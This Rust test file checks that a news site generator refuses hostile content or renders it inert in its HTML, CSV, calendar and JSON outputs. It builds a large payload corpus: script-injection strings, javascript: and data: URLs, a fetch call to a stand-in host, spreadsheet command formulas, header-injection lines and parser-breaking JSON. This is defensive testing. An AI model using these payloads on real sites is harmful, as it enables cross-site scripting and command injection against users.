//! Hostile content: what the check does not refuse is inert in every output.

use super::{Fixture, text};
use serde_json::{Value, json};

/// Texts that would run, hide or break something if they were taken for more than text.
fn texts() -> Vec<String> {
    let mut texts = Vec::new();
    let code = ["alert(1)", "globalThis.evil=1", "fetch('//evil.example')"];
    let frames = [
        "<script>{}</script>",
        "</script><script>{}</script>",
        "<ScRiPt >{}</sCrIpT>",
        "<!--<script>{}//-->",
        "<img src=x onerror=\"{}\">",
        "<svg/onload={}>",
        "<svg><script>{}</script></svg>",
        "<math><mi xlink:href=\"javascript:{}\">",
        "<iframe srcdoc=\"<script>{}</script>\">",
        "<details open ontoggle={}>",
        "\"><script>{}</script>",
        "' autofocus onfocus='{}",
        "\" onmouseover=\"{}",
        "--><script>{}</script>",
        "]]><script>{}</script>",
        "</style><script>{}</script>",
        "</title><script>{}</script>",
        "</template><script>{}</script>",
        "<base href=\"//evil.example/\"><script>{}</script>",
        "<meta http-equiv=refresh content=\"0;javascript:{}\">",
        "<a href=\"javascript:{}\">x</a>",
        "<object data=\"data:text/html,<script>{}</script>\">",
        "{{constructor.constructor('{}')()}}",
        "${{}}{}",
        "&lt;script&gt;{}&lt;/script&gt;",
        "&#60;script&#62;{}&#60;/script&#62;",
        "\\u003cscript\\u003e{}\\u003c/script\\u003e",
        "%3Cscript%3E{}%3C/script%3E",
        "=cmd|'/c {}'!A1",
        "@SUM({})",
    ];
    for frame in frames {
        texts.extend(code.iter().map(|code| frame.replace("{}", code)));
    }
    texts.extend(
        [
            "\u{202e}txet desrever",
            "\u{2066}isolate without an end",
            "\u{200b}\u{200d}\u{feff}invisible",
            "\u{0}nought",
            "\u{7}\u{8}\u{1b}[31m",
            "line\r\nX-Evil: 1",
            "BEGIN:VEVENT\r\nEND:VEVENT",
            "\u{2028}\u{2029}separators",
            "__proto__",
            "constructor",
            "\u{fffe}\u{ffff}no letters",
            "e\u{301}\u{301}\u{301}\u{301}\u{301}\u{301}",
            "\u{1f468}\u{200d}\u{1f469}\u{200d}\u{1f467}",
        ]
        .map(String::from),
    );
    texts
}

/// Addresses that are none of https, mailto, tel and relative, in many disguises.
fn addresses() -> Vec<String> {
    let schemes =
        ["javascript", "data", "vbscript", "file", "blob", "filesystem", "view-source", "http", "ws", "about"];
    let mut addresses = Vec::new();
    for scheme in schemes {
        let upper = scheme.to_uppercase();
        for spelled in [
            format!("{scheme}:alert(1)"),
            format!("{upper}:alert(1)"),
            format!(" {scheme}:alert(1)"),
            format!("\u{1}{scheme}:alert(1)"),
            format!("{}\t{}:alert(1)", &scheme[..1], &scheme[1..]),
            format!("{}\n{}:alert(1)", &scheme[..1], &scheme[1..]),
            format!("{scheme}\u{a0}:alert(1)"),
            format!("{scheme}&colon;alert(1)"),
            format!("{scheme}&#58;alert(1)"),
            format!("{scheme}%3Aalert(1)"),
            format!("{scheme}://evil.example/%0aalert(1)"),
        ] {
            addresses.push(spelled);
        }
    }
    addresses.extend(
        ["//evil.example", "\\\\evil.example", "/\\evil.example", "https:evil", "https://", ""].map(String::from),
    );
    addresses
}

/// Whole files that are no JSON of ours.
fn files() -> Vec<(&'static str, Vec<u8>)> {
    let nested = |open: &str, close: &str, depth: usize| (open.repeat(depth) + &close.repeat(depth)).into_bytes();
    let long = format!("{{\"id\":\"first\",\"headline\":{{\"en\":\"{}\"}}}}", "x".repeat(5 << 20));
    vec![
        ("nothing", Vec::new()),
        ("a byte order mark", b"\xef\xbb\xbf{}".to_vec()),
        ("UTF-16", b"\xff\xfe{\0}\0".to_vec()),
        ("bad UTF-8", b"{\"id\":\"\xff\xfe\"}".to_vec()),
        ("an overlong slash", b"{\"id\":\"\xc0\xaf\"}".to_vec()),
        ("half a surrogate", br#"{"id":"\ud800"}"#.to_vec()),
        ("100,000 lists", nested("[", "]", 100_000)),
        ("100,000 objects", nested("{\"a\":", "}", 100_000)),
        ("5 MB", long.into_bytes()),
        ("a key twice", br#"{"id":"first","id":"second"}"#.to_vec()),
        ("__proto__", br#"{"id":"first","__proto__":{"x":1}}"#.to_vec()),
        ("a number without end", format!("{{\"id\":{}}}", "9".repeat(1000)).into_bytes()),
        ("1e999", br#"{"id":1e999}"#.to_vec()),
        ("NaN", br#"{"id":NaN}"#.to_vec()),
        ("a comment", b"{/* x */}".to_vec()),
        ("a comma too many", br#"{"id":"first",}"#.to_vec()),
        ("cut short", br#"{"id":"fir"#.to_vec()),
        ("two values", b"{}{}".to_vec()),
        ("a list", b"[]".to_vec()),
        ("null", b"null".to_vec()),
        ("HTML", b"<!doctype html><script>alert(1)</script>".to_vec()),
        ("nought", b"\0\0\0\0".to_vec()),
    ]
}

/// Whether the content is refused, each time with file and mend.
fn refused(fixture: &Fixture, what: &str) -> bool {
    let problems = fixture.problems();
    for problem in &problems {
        assert!(!problem.file.is_empty() && !problem.fix.is_empty(), "{what:?}: {problem}");
    }
    !problems.is_empty()
}

#[test]
fn files_that_are_none_are_refused() {
    let fixture = Fixture::new();
    for (what, bytes) in files() {
        std::fs::write(fixture.path("content/news/first.json"), bytes).unwrap();
        assert!(refused(&fixture, what), "{what}");
    }
}

#[test]
fn addresses_that_run_are_refused_in_records_and_in_markdown() {
    let fixture = Fixture::new();
    let good: Value = serde_json::from_slice(&std::fs::read(fixture.path("content/news/first.json")).unwrap()).unwrap();
    let body = fixture.path("content/news/first.en.md");
    let words = std::fs::read_to_string(&body).unwrap();
    for address in addresses() {
        fixture.edit("news/first.json", |it| it["sources"][0]["url"] = json!(address));
        assert!(refused(&fixture, &address), "{address:?} in a record");
        fixture.edit("news/first.json", |it| *it = good.clone());
        // In Markdown, what is no link is text.
        std::fs::write(&body, format!("{words}\n\n[x](<{}>)\n", address.replace('\n', " "))).unwrap();
        if !refused(&fixture, &address) {
            let html = text(&fixture.build(), "news/first.html").to_lowercase();
            for scheme in ["javascript:", "data:", "vbscript:", "file:", "blob:"] {
                assert!(!html.contains(&format!("href=\"{scheme}")), "{address:?} in Markdown");
            }
        }
        std::fs::write(&body, &words).unwrap();
    }
}

#[test]
fn texts_that_would_run_are_refused_or_inert_in_every_output() {
    let fixture = Fixture::new();
    let plain = fixture.build();
    let scripts = |html: &str| html.to_lowercase().matches("<script").count();
    let good: Value = serde_json::from_slice(&std::fs::read(fixture.path("content/news/first.json")).unwrap()).unwrap();
    let body = std::fs::read_to_string(fixture.path("content/news/first.en.md")).unwrap();
    let mut taken = 0;
    for (number, payload) in texts().into_iter().enumerate() {
        let id = format!("hostile-{number}");
        fixture.edit("news/first.json", |it| {
            *it = good.clone();
            it["headline"]["en"] = json!(payload);
            it["summary"]["zh"] = json!(payload);
            it["hero"]["alt"]["en"] = json!(payload);
        });
        if refused(&fixture, &payload) {
            continue;
        }
        // One build for all that is taken, as an article each.
        let mut record = good.clone();
        record["id"] = json!(id);
        for key in ["headline", "summary"] {
            record[key] = json!({ "en": payload, "zh": payload });
        }
        record["hero"]["alt"]["en"] = json!(payload);
        record["sources"][0]["publisher"]["en"] = json!(payload);
        std::fs::write(fixture.path(&format!("content/news/{id}.json")), record.to_string()).unwrap();
        std::fs::write(fixture.path(&format!("content/news/{id}.en.md")), &body).unwrap();
        taken += 1;
    }
    fixture.edit("news/first.json", |it| *it = good.clone());
    assert!(taken > 50, "{taken}");
    let files = fixture.build();
    let most =
        plain.keys().filter(|path| path.ends_with(".html")).map(|path| scripts(text(&plain, path))).max().unwrap();
    for (path, bytes) in &files {
        let Ok(page) = std::str::from_utf8(bytes) else { continue };
        if path.ends_with(".html") {
            assert!(scripts(page) <= most, "{path} has a script too many");
            let open = page.split('<').skip(1).filter_map(|rest| rest.split('>').next());
            for tag in open {
                // Values are in double quotes; what is between them is the tag's own.
                let own: String = tag.split('"').step_by(2).collect();
                assert!(!own.to_lowercase().contains(" on"), "{path}: <{tag}>");
                assert!(
                    !["iframe", "object", "base", "math", "details open ontoggle"]
                        .iter()
                        .any(|bad| tag.starts_with(bad)),
                    "{path}: <{tag}>"
                );
            }
        }
        if path.ends_with(".csv") {
            for cell in page.split([',', '\n']) {
                assert!(
                    !cell.trim_matches('"').starts_with(['=', '@']),
                    "{path}: {cell} would be run by a spreadsheet"
                );
            }
        }
        if path.ends_with(".ics") {
            assert_eq!(page.matches("BEGIN:VEVENT").count(), page.matches("\r\nBEGIN:VEVENT\r\n").count(), "{path}");
        }
        if path.ends_with(".json") && !path.starts_with("assets/") {
            serde_json::from_str::<Value>(page).unwrap_or_else(|error| panic!("{path}: {error}"));
        }
    }
    assert!(files.contains_key("news/first.html"), "the others are as before");
}

#[test]
fn the_corpus_is_large() {
    assert!(texts().len() + addresses().len() * 2 + files().len() >= 300);
}
